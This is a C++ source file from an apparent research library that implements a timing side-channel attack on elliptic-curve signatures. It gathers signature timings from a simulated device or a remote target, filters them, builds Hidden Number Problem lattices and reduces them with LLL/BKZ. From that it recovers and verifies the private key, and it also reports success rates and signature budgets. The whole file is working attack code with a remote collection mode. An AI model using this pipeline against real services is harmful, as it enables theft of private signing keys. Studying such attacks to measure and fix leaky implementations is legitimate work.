#include "ecleak/pipeline.hpp"

#include <algorithm>
#include <chrono>
#include <map>
#include <numeric>
#include <sstream>
#include <stdexcept>

#include <nlohmann/json.hpp>

#include "ecleak/bigint.hpp"
#include "ecleak/io.hpp"

namespace ecleak {

using nlohmann::json;

namespace {

using Clock = std::chrono::steady_clock;

double since(Clock::time_point t0) {
  return std::chrono::duration<double>(Clock::now() - t0).count();
}

LeakProfile profile_from_jobj(const json& j) {
  LeakProfile p;
  if (!leak_model_from(j.at("model").get<std::string>(), p.model))
    throw std::runtime_error("config: unknown leak model");
  p.base_cycles = j.at("base_cycles").get<double>();
  if (j.contains("per_window_cycles")) p.per_window_cycles = j["per_window_cycles"].get<double>();
  if (j.contains("window_bits")) p.window_bits = j["window_bits"].get<int>();
  if (j.contains("per_bit_cycles")) p.per_bit_cycles = j["per_bit_cycles"].get<double>();
  if (j.contains("sigma_cycles")) p.sigma_cycles = j["sigma_cycles"].get<double>();
  if (j.contains("offset_cycles")) p.offset_cycles = j["offset_cycles"].get<double>();
  if (j.contains("freq_hz")) p.freq_hz = j["freq_hz"].get<double>();
  return p;
}

json profile_to_jobj(const LeakProfile& p) {
  json j;
  j["model"] = leak_model_name(p.model);
  j["base_cycles"] = p.base_cycles;
  j["per_window_cycles"] = p.per_window_cycles;
  j["window_bits"] = p.window_bits;
  j["per_bit_cycles"] = p.per_bit_cycles;
  j["sigma_cycles"] = p.sigma_cycles;
  j["offset_cycles"] = p.offset_cycles;
  j["freq_hz"] = p.freq_hz;
  return j;
}

}  // namespace

AttackConfig attack_config_from_json(const std::string& text) {
  json j = json::parse(text);
  AttackConfig cfg;
  cfg.curve = j.value("curve", std::string("p256"));
  if (!find_curve(cfg.curve)) throw std::runtime_error("config: unknown curve");
  if (j.contains("scheme")) {
    auto s = scheme_from(j["scheme"].get<std::string>());
    if (!s) throw std::runtime_error("config: unknown scheme");
    cfg.scheme = *s;
  }
  if (j.contains("variant") &&
      !hnp_variant_from(j["variant"].get<std::string>(), cfg.variant))
    throw std::runtime_error("config: unknown variant");
  cfg.recenter = j.value("recenter", true);
  cfg.seed = j.value("seed", 1ull);
  if (j.contains("profile_file"))
    cfg.profile = load_profile(j["profile_file"].get<std::string>());
  else if (j.contains("profile"))
    cfg.profile = profile_from_jobj(j["profile"]);
  if (j.contains("key_file")) {
    KeyFile kf = load_key(j["key_file"].get<std::string>());
    if (kf.curve != cfg.curve) throw std::runtime_error("config: key curve mismatch");
    if (kf.has_private) cfg.device_d = kf.d;
    cfg.pub = Point::affine(kf.qx, kf.qy);
  }
  if (j.contains("device_key")) cfg.device_d = from_hex(j["device_key"].get<std::string>());
  if (j.contains("public_key")) {
    cfg.pub = Point::affine(from_hex(j["public_key"].at("x").get<std::string>()),
                            from_hex(j["public_key"].at("y").get<std::string>()));
  }
  if (j.contains("collect")) {
    const auto& c = j["collect"];
    cfg.collect.mode = c.value("mode", std::string("local"));
    cfg.collect.count = c.value("count", 0ull);
    cfg.collect.target = c.value("target", std::string());
    cfg.collect.freq_hz = c.value("freq_hz", 3.6e9);
    cfg.collect.net_sigma_cycles = c.value("net_sigma_cycles", 0.0);
    cfg.collect.timeout_ms = c.value("timeout_ms", 1000);
  }
  if (j.contains("filter")) {
    const auto& f = j["filter"];
    cfg.filter.mode = f.value("mode", std::string("profile"));
    cfg.filter.assumed_lzb = f.value("assumed_lzb", 8);
    cfg.filter.profile_count = f.value("profile_count", 12000ull);
    cfg.filter.purity_z = f.value("purity_z", 0.0);
    cfg.filter.lower = f.value("lower", 0ll);
    cfg.filter.upper = f.value("upper", 0ll);
    cfg.filter.fastest_m = f.value("fastest_m", 0ull);
  }
  cfg.t = j.value("t", 0ull);
  cfg.retries = j.value("retries", 8);
  if (j.contains("reduce")) {
    const auto& r = j["reduce"];
    cfg.reduce.algorithm = r.value("algorithm", std::string("lll"));
    cfg.reduce.delta = r.value("delta", 0.99);
    cfg.reduce.block = r.value("block", 30);
    cfg.reduce.max_rounds = r.value("max_rounds", 32);
    cfg.reduce.time_budget_s = r.value("time_budget_s", 0.0);
    cfg.reduce.exact = r.value("exact", false);
    cfg.reduce.enum_node_cap = r.value("enum_node_cap", 3000000ull);
    cfg.reduce.enum_prune = r.value("enum_prune", 1.0);
    cfg.reduce.enum_retries = r.value("enum_retries", 0);
  }
  if (cfg.t < 2) throw std::runtime_error("config: t must be >= 2");
  if (cfg.retries < 1) throw std::runtime_error("config: retries must be >= 1");
  return cfg;
}

std::string attack_config_to_json(const AttackConfig& cfg) {
  json j;
  j["curve"] = cfg.curve;
  j["scheme"] = scheme_name(cfg.scheme);
  j["variant"] = hnp_variant_name(cfg.variant);
  j["recenter"] = cfg.recenter;
  j["seed"] = cfg.seed;
  j["profile"] = profile_to_jobj(cfg.profile);
  if (sgn(cfg.device_d) > 0) j["device_key"] = to_hex(cfg.device_d);
  if (!cfg.pub.inf)
    j["public_key"] = {{"x", to_hex(cfg.pub.x)}, {"y", to_hex(cfg.pub.y)}};
  j["collect"] = {{"mode", cfg.collect.mode},
                  {"count", cfg.collect.count},
                  {"target", cfg.collect.target},
                  {"freq_hz", cfg.collect.freq_hz},
                  {"net_sigma_cycles", cfg.collect.net_sigma_cycles},
                  {"timeout_ms", cfg.collect.timeout_ms}};
  j["filter"] = {{"mode", cfg.filter.mode},
                 {"assumed_lzb", cfg.filter.assumed_lzb},
                 {"profile_count", cfg.filter.profile_count},
                 {"purity_z", cfg.filter.purity_z},
                 {"lower", cfg.filter.lower},
                 {"upper", cfg.filter.upper},
                 {"fastest_m", cfg.filter.fastest_m}};
  j["t"] = cfg.t;
  j["retries"] = cfg.retries;
  j["reduce"] = {{"algorithm", cfg.reduce.algorithm},
                 {"delta", cfg.reduce.delta},
                 {"block", cfg.reduce.block},
                 {"max_rounds", cfg.reduce.max_rounds},
                 {"time_budget_s", cfg.reduce.time_budget_s},
                 {"exact", cfg.reduce.exact},
                 {"enum_node_cap", cfg.reduce.enum_node_cap},
                 {"enum_prune", cfg.reduce.enum_prune},
                 {"enum_retries", cfg.reduce.enum_retries}};
  return j.dump(2) + "\n";
}

std::string result_to_json(const ExperimentResult& r) {
  json j;
  j["success"] = r.success;
  if (r.success) j["recovered_d"] = to_hex(r.recovered_d);
  j["signatures_used"] = r.signatures_used;
  j["profile_signatures"] = r.profile_signatures;
  j["filtered_count"] = r.filtered_count;
  j["no_separation"] = r.no_separation;
  j["collect_s"] = r.collect_s;
  j["reduce_s"] = r.reduce_s;
  json att = json::array();
  for (const auto& a : r.attempts)
    att.push_back({{"attempt", a.attempt},
                   {"dim", a.dim},
                   {"tie_row_found", a.tie_row_found},
                   {"verified", a.verified},
                   {"partial", a.partial},
                   {"reduce_s", a.reduce_s}});
  j["attempts"] = att;
  return j.dump(2) + "\n";
}

std::vector<TimedSample> collect_samples(const AttackConfig& cfg,
                                         uint64_t* requests_sent) {
  const Curve& curve = *find_curve(cfg.curve);
  if (cfg.collect.mode == "local") {
    if (sgn(cfg.device_d) <= 0)
      throw std::runtime_error("collect: local mode needs device_key");
    LeakyDevice dev(curve, cfg.scheme, cfg.device_d, cfg.profile,
                    Rng(cfg.seed).fork(0x5e).seed());
    Rng msgs(Rng(cfg.seed).fork(0x6d).seed());
    std::vector<TimedSample> pool;
    pool.reserve(cfg.collect.count);
    for (size_t i = 0; i < cfg.collect.count; ++i)
      pool.push_back(dev.sign(mpz_from_be(msgs.msg32().data(), 32)));
    if (requests_sent) *requests_sent = cfg.collect.count;
    return pool;
  }
  if (cfg.collect.mode == "remote") {
    CollectOptions opt;
    opt.count = cfg.collect.count;
    opt.timeout_ms = cfg.collect.timeout_ms;
    opt.freq_hz = cfg.collect.freq_hz;
    opt.net_sigma_cycles = cfg.collect.net_sigma_cycles;
    opt.seed = Rng(cfg.seed).fork(0xc0).seed();
    auto out = collect_remote(cfg.collect.target, opt);
    if (requests_sent) *requests_sent = out.requests_sent;
    return std::move(out.samples);
  }
  throw std::runtime_error("collect: unknown mode " + cfg.collect.mode);
}

ExperimentResult attack_on_pool(const AttackConfig& cfg,
                                const std::vector<TimedSample>& pool,
                                const std::vector<TimedSample>& labeled_profile_pool) {
  const Curve& curve = *find_curve(cfg.curve);
  ExperimentResult res;
  Point pub = cfg.pub;
  if (pub.inf) {
    if (sgn(cfg.device_d) <= 0)
      throw std::runtime_error("attack: need public_key or device_key");
    pub = scalar_mul_base(curve, cfg.device_d);
  }

  // phase 2 filtering
  std::vector<TimedSample> filtered;
  if (cfg.filter.mode == "fastest") {
    filtered = sort_fastest(pool, cfg.filter.fastest_m);
  } else if (cfg.filter.mode == "window") {
    if (cfg.filter.upper <= cfg.filter.lower)
      throw std::runtime_error("attack: window filter needs lower < upper");
    BiasClass bc;
    bc.assumed_lzb = cfg.filter.assumed_lzb;
    bc.lower = cfg.filter.lower;
    bc.upper = cfg.filter.upper;
    filtered = classify(pool, bc);
  } else if (cfg.filter.mode == "profile") {
    if (labeled_profile_pool.empty())
      throw std::runtime_error("attack: profile mode needs a labeled pool");
    ProfileReport rep = profile_samples(
        labeled_profile_pool, cfg.profile.model, curve.bits,
        cfg.profile.window_bits, {cfg.filter.assumed_lzb}, 30, cfg.filter.purity_z);
    res.no_separation = rep.no_separation;
    res.profile_signatures = labeled_profile_pool.size();
    if (rep.no_separation)
      throw std::runtime_error("attack: no timing separation between classes");
    filtered = classify(pool, rep.recommended.at(0));
  } else {
    throw std::runtime_error("attack: unknown filter mode " + cfg.filter.mode);
  }
  res.filtered_count = filtered.size();
  if (filtered.size() < cfg.t)
    throw std::runtime_error("attack: filtered pool smaller than t (" +
                             std::to_string(filtered.size()) + " < " +
                             std::to_string(cfg.t) + ")");

  std::vector<TimedSample> fastest = sort_fastest(filtered, filtered.size());
  Rng subset_rng(Rng(cfg.seed).fork(0x5b).seed());

  for (int attempt = 0; attempt < cfg.retries && !res.success; ++attempt) {
    std::vector<TimedSample> subset;
    if (attempt == 0) {
      subset.assign(fastest.begin(), fastest.begin() + cfg.t);
    } else {
      std::vector<size_t> idx(filtered.size());
      std::iota(idx.begin(), idx.end(), 0);
      for (size_t i = 0; i < cfg.t; ++i) {
        size_t j = i + static_cast<size_t>(subset_rng.u64() % (idx.size() - i));
        std::swap(idx[i], idx[j]);
      }
      for (size_t i = 0; i < cfg.t; ++i) subset.push_back(filtered[idx[i]]);
    }

    HnpInstance inst = build_hnp(curve, cfg.scheme, subset,
                                 cfg.filter.assumed_lzb, cfg.variant, cfg.recenter);
    Basis basis = hnp_basis(inst);
    auto t0 = Clock::now();
    ReduceStats st = reduce_basis(basis, cfg.reduce);
    double rsec = since(t0);
    res.reduce_s += rsec;
    auto ext = extract_keys(curve, pub, inst, basis);

    AttemptLog log;
    log.attempt = static_cast<size_t>(attempt);
    log.dim = basis.size();
    log.tie_row_found = ext.tie_row_found;
    log.partial = st.partial;
    log.reduce_s = rsec;
    if (!ext.verified.empty()) {
      log.verified = true;
      res.success = true;
      res.recovered_d = ext.verified.front();
    }
    res.attempts.push_back(log);
  }
  return res;
}

std::vector<TimedSample> collect_phase1_labeled(const AttackConfig& cfg) {
  const Curve& curve = *find_curve(cfg.curve);
  if (sgn(cfg.device_d) <= 0)
    throw std::runtime_error("attack: profiling needs the profiling device key");
  AttackConfig pcfg = cfg;
  pcfg.collect.count = cfg.filter.profile_count;
  pcfg.seed = Rng(cfg.seed).fork(0xf1).seed();
  std::vector<TimedSample> pool = collect_samples(pcfg);
  label_nonces(pool, curve, cfg.scheme, cfg.device_d);
  return pool;
}

ExperimentResult run_attack(const AttackConfig& cfg) {
  auto t0 = Clock::now();

  std::vector<TimedSample> profile_pool;
  if (cfg.filter.mode == "profile") profile_pool = collect_phase1_labeled(cfg);

  uint64_t sent = 0;
  std::vector<TimedSample> pool = collect_samples(cfg, &sent);
  double collect_s = since(t0);

  ExperimentResult res = attack_on_pool(cfg, pool, profile_pool);
  res.signatures_used = sent;
  res.collect_s = collect_s;
  return res;
}

std::vector<CurvePoint> success_curve(const AttackConfig& cfg,
                                      const std::vector<TimedSample>& filtered,
                                      const std::vector<size_t>& t_values,
                                      int trials) {
  const Curve& curve = *find_curve(cfg.curve);
  Point pub = cfg.pub;
  if (pub.inf) {
    if (sgn(cfg.device_d) <= 0)
      throw std::runtime_error("curve: need public_key or device_key");
    pub = scalar_mul_base(curve, cfg.device_d);
  }
  std::vector<CurvePoint> out;
  Rng rng(Rng(cfg.seed).fork(0xcc).seed());
  for (size_t t : t_values) {
    if (t > filtered.size())
      throw std::runtime_error("curve: t exceeds filtered pool");
    CurvePoint cp;
    cp.t = t;
    cp.trials = trials;
    double secs = 0;
    for (int i = 0; i < trials; ++i) {
      std::vector<size_t> idx(filtered.size());
      std::iota(idx.begin(), idx.end(), 0);
      for (size_t k = 0; k < t; ++k) {
        size_t j = k + static_cast<size_t>(rng.u64() % (idx.size() - k));
        std::swap(idx[k], idx[j]);
      }
      std::vector<TimedSample> subset;
      for (size_t k = 0; k < t; ++k) subset.push_back(filtered[idx[k]]);
      HnpInstance inst = build_hnp(curve, cfg.scheme, subset,
                                   cfg.filter.assumed_lzb, cfg.variant,
                                   cfg.recenter);
      Basis basis = hnp_basis(inst);
      auto t0 = Clock::now();
      reduce_basis(basis, cfg.reduce);
      secs += since(t0);
      auto ext = extract_keys(curve, pub, inst, basis);
      if (!ext.verified.empty()) ++cp.successes;
    }
    cp.avg_reduce_s = trials > 0 ? secs / trials : 0;
    out.push_back(cp);
  }
  return out;
}

std::string curve_to_csv(const std::vector<CurvePoint>& pts) {
  std::ostringstream os;
  os << "t,trials,successes,rate,avg_reduce_s\n";
  for (const auto& p : pts)
    os << p.t << "," << p.trials << "," << p.successes << ","
       << (p.trials ? static_cast<double>(p.successes) / p.trials : 0.0) << ","
       << p.avg_reduce_s << "\n";
  return os.str();
}

std::vector<HistBin> emit_histogram(const std::vector<TimedSample>& samples,
                                    int64_t bin_width) {
  if (bin_width <= 0) throw std::invalid_argument("histogram: bin_width must be > 0");
  std::map<int64_t, size_t> acc;
  for (const auto& s : samples) acc[s.cycles / bin_width * bin_width]++;
  std::vector<HistBin> out;
  for (auto& [lo, n] : acc) out.push_back({lo, n});
  return out;
}

std::string histogram_to_csv(const std::vector<HistBin>& bins) {
  std::ostringstream os;
  os << "bin_lo,count\n";
  for (const auto& b : bins) os << b.lo << "," << b.count << "\n";
  return os.str();
}

BudgetReport budget_report(int assumed_lzb, size_t t, uint64_t yield_num,
                           uint64_t yield_den, double rate_per_min) {
  if (assumed_lzb <= 0 || assumed_lzb >= 256)
    throw std::invalid_argument("budget: lzb out of range");
  if (t == 0 || yield_num == 0 || yield_den == 0)
    throw std::invalid_argument("budget: zero argument");
  BudgetReport r;
  r.assumed_lzb = assumed_lzb;
  r.t = t;
  r.yield_num = yield_num;
  r.yield_den = yield_den;
  r.raw = mpz_class(static_cast<unsigned long>(t)) << assumed_lzb;
  r.total = r.raw * static_cast<unsigned long>(yield_den) /
            static_cast<unsigned long>(yield_num);
  if (rate_per_min > 0)
    r.minutes = r.total.get_d() / rate_per_min;
  return r;
}

std::string budget_to_json(const BudgetReport& r) {
  json j;
  j["assumed_lzb"] = r.assumed_lzb;
  j["t"] = r.t;
  j["yield"] = {{"num", r.yield_num}, {"den", r.yield_den}};
  j["raw_signatures"] = to_dec(r.raw);
  j["total_signatures"] = to_dec(r.total);
  if (r.minutes >= 0) j["minutes"] = r.minutes;
  return j.dump(2) + "\n";
}

}  // namespace ecleak
